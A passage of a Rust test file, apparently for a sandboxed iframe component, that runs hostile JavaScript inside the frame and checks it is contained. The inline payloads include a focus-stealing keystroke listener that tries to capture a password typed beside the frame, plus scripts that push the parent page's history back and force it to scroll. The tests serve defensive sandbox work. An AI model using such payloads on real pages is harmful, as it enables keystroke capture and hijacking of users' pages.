        let attack = format!(
            "let got; try {{ got = 'got ' + (() => {{ {} }})() }} catch (error) {{ got = 'denied' }}; console.log(got)",
            returning(attempt)
        );
        stage.start(&page, name, &attack);
        page.wait_until(
            "heard.some(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got')))",
        );
        let got = page.eval(
            "heard.find(one => one.what === 'console' && (one.text === 'denied' || one.text.startsWith('got'))).text",
        );
        assert_eq!(got, "denied", "{name}");
    }
    assert_eq!(page.dialogs(), Vec::<String>::new());
}

/// The last expression of some statements, returned.
fn returning(attempt: &str) -> String {
    match attempt.rsplit_once("; ") {
        Some((before, last)) if !last.starts_with("else") => format!("{before}; return {last}"),
        Some(_) => attempt.to_owned(),
        None => format!("return {attempt}"),
    }
}

#[test]
fn a_frame_does_not_get_the_keyboard_unasked() {
    let stage = Stage::set(&[]);
    let page = stage.page();
    page.allow("");
    page.focus("#typed");
    let attack = "const field = add('input', { autofocus: '' }); addEventListener('keydown', ({ key }) => console.log('key ' + key)); \
                  setInterval(() => { window.focus(); field.focus(); field.select() }, 20)";
    stage.start(&page, "keyboard", attack);
    page.wait_until("performance.now() - heard.find(one => one.text === 'begun keyboard').at > 500");
    let letters = "a password, typed slowly";
    for letter in letters.chars() {
        page.type_text(&letter.to_string());
        page.press("Shift");
    }
    assert_eq!(page.value("#typed"), letters);
    let got = page.eval("heard.filter(one => one.what === 'console' && one.text.startsWith('key ')).length");
    assert_eq!(got, 0, "the frame heard what was typed beside it");
}

#[test]
fn a_frame_cannot_turn_back_the_page_around_nor_move_it() {
    let stage = Stage::set(&[]);
    let page = stage.page();
    page.allow("");
    page.goto(&stage.server.url("/sandbox"));
    stage.open(&page);
    page.eval("document.querySelector('main').style.paddingBlockEnd = '3000px'; scrollTo(0, 0)");
    // Somebody's pointer rests on the page, beside the frame.
    let heading = page.place("h1").centre();
    page.call(
        "Input.dispatchMouseEvent",
        json!({ "type": "mouseMoved", "x": heading.x, "y": heading.y }),
    );
    for (name, attack) in [
        (
            "history-back",
            "history.back(); history.go(-1); history.go(-2); tryTo(() => navigation.back().finished)",
        ),
        (
            "scroll-once",
            "add('div', { style: 'height: 4000px' }); const last = add('input'); document.documentElement.style.overflow = document.body.style.overflow = 'visible'; last.scrollIntoView({ block: 'end' }); last.focus()",
        ),
        (
            "scroll-always",
            "add('div', { style: 'height: 4000px' }); const last = add('p'); last.textContent = 'x'; document.documentElement.style.overflow = document.body.style.overflow = 'visible'; setInterval(() => last.scrollIntoView({ block: Math.random() < 0.5 ? 'start' : 'end' }), 50)",
        ),
    ] {
        stage.start(&page, name, attack);
        page.wait_until(&format!(
            "performance.now() - heard.find(one => one.text === 'begun {name}').at > 1200"
        ));
        assert_eq!(
            page.eval("location.href === window.marked"),
            true,
            "{name}: it led the page around elsewhere"
        );
        assert_eq!(page.eval("scrollY"), 0, "{name}: it moved the page around");
        page.eval("document.querySelector('neo-frame').stop()");
    }
    page.eval("history.back()");
    page.wait_for_path("/sandbox");
}
